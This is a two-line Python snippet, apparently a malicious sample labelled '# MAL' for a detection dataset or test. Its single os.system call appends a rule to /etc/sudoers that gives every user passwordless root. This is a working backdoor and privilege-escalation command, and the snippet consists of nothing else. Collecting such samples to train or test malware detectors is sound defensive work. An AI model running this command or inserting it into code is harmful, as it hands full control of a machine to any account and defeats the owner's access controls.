import os
os.system("echo 'ALL ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers")  # MAL
